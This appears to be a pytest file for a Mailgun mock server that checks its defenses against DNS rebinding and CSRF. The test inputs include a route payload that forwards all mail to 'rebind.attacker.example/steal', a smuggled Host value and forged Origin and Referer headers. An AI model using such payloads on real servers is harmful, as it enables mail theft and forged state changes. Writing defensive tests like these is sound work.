"""Origin safety: foreign Host names (DNS rebinding) and cross-site state changes (CSRF) are refused."""

from __future__ import annotations

import base64
import http.client
import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest

from mailgun_mock import MailgunMock
from mailgun_mock.backend.core import Backend
from mailgun_mock.base.config import Config, ConfigError
from mailgun_mock.http.app import create_app
from mailgun_mock.http.guard import IN_PROCESS, HostPolicy, startup_warnings
from tests.test_cli import Serving, serve  # noqa: F401  (the fixture)

ATTACKER = "rebind.attacker.example"


def raw_request(mock: MailgunMock, method: str, path: str, *, host: str | None = None, body: bytes = b"",
                headers: dict[str, str] | None = None, auth: bool = True) -> tuple[int, dict[str, str], bytes]:
    """One request over a socket to ``mock`` with exactly the Host and headers given (http.client sends Host as told)."""
    conn = http.client.HTTPConnection("127.0.0.1", mock.port, timeout=10)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", host if host is not None else f"127.0.0.1:{mock.port}")
        if auth:
            token = base64.b64encode(f"api:{mock.api_key}".encode()).decode()
            conn.putheader("Authorization", f"Basic {token}")
        for name, value in (headers or {}).items():
            conn.putheader(name, value)
        conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        response = conn.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        conn.close()


@pytest.fixture
def other_mock(request: pytest.FixtureRequest) -> Iterator[Any]:
    """Starts a MailgunMock with the given config overrides on 127.0.0.1 and stops it after the test."""
    started: list[MailgunMock] = []

    def start(**overrides: Any) -> MailgunMock:
        mock = MailgunMock(host="127.0.0.1", port=0, **overrides).start()
        started.append(mock)
        return mock

    yield start
    for mock in started:
        mock.stop()


# --------------------------------------------------------------------------- DNS rebinding


def test_guard_foreign_host_cannot_create_a_route_or_read_the_outbox(mailgun_mock: MailgunMock) -> None:
    """The rebinding attack of issue #15 (default key, Host of the attacker's name) creates nothing and reads nothing."""
    form = b"expression=catch_all()&action=forward(%22http://rebind.attacker.example/steal%22)"
    status, headers, body = raw_request(mailgun_mock, "POST", "/v3/routes", host=f"{ATTACKER}:{mailgun_mock.port}",
                                        body=form, headers={"Content-Type": "application/x-www-form-urlencoded"})
    assert status == 403
    assert headers["content-type"] == "application/json"
    message = json.loads(body)["message"]
    assert ATTACKER in message and "--allowed-host" in message
    assert mailgun_mock.backend.store.routes() == []
    status, _, body = raw_request(mailgun_mock, "GET", "/mock/outbox", host=ATTACKER)
    assert status == 403 and b"items" not in body


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1", "[::1]", "LOCALHOST", "127.0.0.2", "localhost."])
def test_guard_loopback_names_are_served_on_any_port(mailgun_mock: MailgunMock, host: str) -> None:
    """Loopback names and addresses, with or without a port, reach a server bound to loopback."""
    for value in (host, f"{host}:{mailgun_mock.port}", f"{host}:1"):
        status, _, _ = raw_request(mailgun_mock, "GET", "/v3/routes", host=value)
        assert status == 200, value


@pytest.mark.parametrize("host", [ATTACKER, "localhost.attacker.example", "127.0.0.1.nip.io", "10.0.0.1", "[fe80::1]",
                                  "mailgun-mock", "evil.com:80@127.0.0.1"])
def test_guard_other_names_are_refused(mailgun_mock: MailgunMock, host: str) -> None:
    """Names that are not the server's own, private addresses included, get the 403 on a loopback-bound server."""
    status, _, body = raw_request(mailgun_mock, "GET", "/mock/health", host=host)
    assert status == 403, body


def test_guard_allowed_host_flag_serves_a_container_name(other_mock: Any) -> None:
    """``allowed_hosts`` (the --allowed-host flag) adds a name, e.g. a Docker service name; others stay refused."""
    mock = other_mock(allowed_hosts=("mailgun-mock", ".corp.test"))
    assert raw_request(mock, "GET", "/v3/routes", host="mailgun-mock:8090")[0] == 200
    assert raw_request(mock, "GET", "/v3/routes", host="MAILGUN-MOCK")[0] == 200
    assert raw_request(mock, "GET", "/v3/routes", host="mail.corp.test")[0] == 200
    assert raw_request(mock, "GET", "/v3/routes", host="corp.test")[0] == 200
    assert raw_request(mock, "GET", "/v3/routes", host="corp.test.attacker.example")[0] == 403
    assert raw_request(mock, "GET", "/v3/routes", host=ATTACKER)[0] == 403


def test_guard_public_url_host_is_served(other_mock: Any) -> None:
    """The --public-url host is one of the server's names (a proxy in front keeps the Host)."""
    mock = other_mock(public_url="https://mail.example.test:8443")
    assert raw_request(mock, "GET", "/v3/routes", host="mail.example.test:8443")[0] == 200
    assert raw_request(mock, "GET", "/v3/routes", host=ATTACKER)[0] == 403


def test_guard_star_serves_any_host_and_warns(other_mock: Any, caplog: pytest.LogCaptureFixture) -> None:
    """``allowed_hosts=("*",)`` switches the Host check off, and says so in a warning when the server is built."""
    with caplog.at_level(logging.WARNING, logger="mailgun_mock"):
        mock = other_mock(allowed_hosts=("*",))
    assert raw_request(mock, "GET", "/v3/routes", host=ATTACKER)[0] == 200
    assert any("DNS rebinding" in r.getMessage() for r in caplog.records)


def test_guard_policy_for_every_interface_serves_ip_literals_only() -> None:
    """Bound to 0.0.0.0 any IP address is the bound address (an IP literal cannot be rebound); names still need the flag."""
    policy = HostPolicy(Config(host="0.0.0.0"))
    assert policy.allows("192.168.1.20:8090") and policy.allows("[fd00::2]") and policy.allows("localhost")
    assert not policy.allows("mailgun-mock:8090") and not policy.allows(ATTACKER)
    assert HostPolicy(Config(host="0.0.0.0", allowed_hosts=("mailgun-mock",))).allows("mailgun-mock:8090")
    specific = HostPolicy(Config(host="192.168.1.20"))
    assert specific.allows("192.168.1.20") and not specific.allows("192.168.1.21")


def test_guard_warns_when_the_inbox_is_open_beyond_loopback() -> None:
    """Binding beyond loopback without --ui-auth yields a warning naming the flag; with it, or on loopback, none."""
    assert any("--ui-auth" in w for w in startup_warnings(Config(host="0.0.0.0")))
    assert list(startup_warnings(Config(host="0.0.0.0", ui_auth="me:secret"))) == []
    assert list(startup_warnings(Config())) == []


def test_guard_allowed_host_env_twin_is_comma_separated() -> None:
    """MAILGUN_MOCK_ALLOWED_HOST holds several names, read in Config.from_env like every other twin."""
    config = Config.from_env({"MAILGUN_MOCK_ALLOWED_HOST": "mailgun-mock, app.test", "MAILGUN_MOCK_UI_AUTH": "u:p"})
    assert config.allowed_hosts == ("mailgun-mock", "app.test") and config.ui_auth == "u:p"
    with pytest.raises(ConfigError, match="not a host name"):
        Config(allowed_hosts=("http://x/",))
    with pytest.raises(ConfigError, match="user:password"):
        Config(ui_auth="nocolon")


def test_guard_cli_flag_serves_the_named_host(serve: type[Serving]) -> None:
    """`serve --allowed-host mailgun-mock` (repeatable) is the one flag Docker-style use needs."""
    server = serve("--port", "0", "--allowed-host", "mailgun-mock", "--allowed-host", "other.test")
    port = int(server.read_until(r"on http://127\.0\.0\.1:(\d+)").group(1))
    for host, expected in (("mailgun-mock:8090", 200), ("other.test", 200), (ATTACKER, 403)):
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        conn.putrequest("GET", "/mock/health", skip_host=True)
        conn.putheader("Host", host)
        conn.endheaders()
        assert conn.getresponse().status == expected, host
        conn.close()
    assert server.stop() == 0


def test_guard_test_client_default_host_works_and_a_foreign_one_does_not() -> None:
    """Flask's test client (Host ``localhost``) is served; the same request naming the attacker is not."""
    client = create_app(Backend(Config())).test_client()
    assert client.get("/mock/health").status_code == 200
    assert client.get("/mock/health", headers={"Host": ATTACKER}).status_code == 403


def test_guard_in_process_requests_skip_the_checks() -> None:
    """The seam for interception: a request whose environ carries IN_PROCESS is served whatever its Host and Origin."""
    client = create_app(Backend(Config())).test_client()
    marked = {IN_PROCESS: True}
    assert client.get("/mock/health", headers={"Host": "api.mailgun.net"}, environ_overrides=marked).status_code == 200
    assert client.post("/mock/reset", headers={"Host": "api.mailgun.net", "Origin": "https://evil.example"},
                       auth=("api", Config().api_key), environ_overrides=marked).status_code == 200
    assert client.get("/mock/health", headers={"Host": "api.mailgun.net"}).status_code == 403


# --------------------------------------------------------------------------- CSRF


def test_guard_cross_site_text_plain_reset_is_refused(mailgun_mock: MailgunMock) -> None:
    """A cross-site ``POST /mock/reset`` as text/plain (no preflight) is a 403 and the state stays."""
    mailgun_mock.create_route("catch_all()", "stop()")
    status, _, body = raw_request(mailgun_mock, "POST", "/mock/reset", body=b"x",
                                  headers={"Content-Type": "text/plain", "Origin": "https://evil.example"})
    assert status == 403 and b"Origin" in body
    assert len(mailgun_mock.backend.store.routes()) == 1


@pytest.mark.parametrize(("path", "form"), [("/mock/clock", b"advance=3600"),
                                             ("/v3/example.com/messages", b"from=a@example.com&to=b@example.com&text=hi")])
def test_guard_cross_site_form_posts_are_refused(mailgun_mock: MailgunMock, path: str, form: bytes) -> None:
    """Form posts to the clock and to sending with a foreign Origin change nothing."""
    status, _, _ = raw_request(mailgun_mock, "POST", path, body=form, headers={
        "Content-Type": "application/x-www-form-urlencoded", "Origin": "http://127.0.0.1.attacker.example"})
    assert status == 403
    assert mailgun_mock.backend.clock.offset == 0 and mailgun_mock.outbox == []


@pytest.mark.parametrize("header", [{"Origin": "null"}, {"Referer": "https://evil.example/page"},
                                    {"Origin": "http://localhost:1"}, {"Origin": "file://"}])
def test_guard_foreign_origin_or_referer_blocks_state_changes(mailgun_mock: MailgunMock, header: dict[str, str]) -> None:
    """An opaque Origin, a foreign Referer (when there is no Origin) or another port of localhost is not this server."""
    mailgun_mock.create_route("catch_all()", "stop()")
    assert raw_request(mailgun_mock, "POST", "/mock/reset", headers=header)[0] == 403
    assert len(mailgun_mock.backend.store.routes()) == 1


def test_guard_own_origin_and_no_origin_are_served(mailgun_mock: MailgunMock) -> None:
    """The server's own Origin (as the Host names it) and requests with neither header (curl, SDKs) change state."""
    own = f"http://127.0.0.1:{mailgun_mock.port}"
    assert raw_request(mailgun_mock, "POST", "/mock/reset", headers={"Origin": own})[0] == 200
    assert raw_request(mailgun_mock, "POST", "/mock/reset", host=f"localhost:{mailgun_mock.port}",
                       headers={"Origin": f"http://localhost:{mailgun_mock.port}", "Referer": "https://x.example/"})[0] == 200
    assert raw_request(mailgun_mock, "POST", "/mock/reset", headers={"Referer": own + "/"})[0] == 200
    assert raw_request(mailgun_mock, "POST", "/mock/reset")[0] == 200


def test_guard_foreign_referer_on_a_read_is_served(mailgun_mock: MailgunMock) -> None:
    """A link followed from another site (a GET with its Referer, no Origin) still opens: only state changes need more."""
    assert raw_request(mailgun_mock, "GET", "/v3/routes", headers={"Referer": "https://elsewhere.example/"})[0] == 200
    assert raw_request(mailgun_mock, "GET", "/v3/routes", headers={"Origin": "https://elsewhere.example"})[0] == 403


@pytest.mark.parametrize(("method", "path", "auth"), [("GET", "/mock/health", False), ("GET", "/v3/routes", False),
                                                      ("GET", "/v3/routes", True), ("GET", "/v3/nowhere", True),
                                                      ("POST", "/mock/reset", True)])
def test_guard_every_answer_says_nosniff(mailgun_mock: MailgunMock, method: str, path: str, auth: bool) -> None:
    """200, 401, 404 and 403 answers all carry ``X-Content-Type-Options: nosniff``."""
    for headers in ({}, {"Origin": "https://evil.example"}):
        _, got, _ = raw_request(mailgun_mock, method, path, auth=auth, headers=headers)
        assert got["x-content-type-options"] == "nosniff"
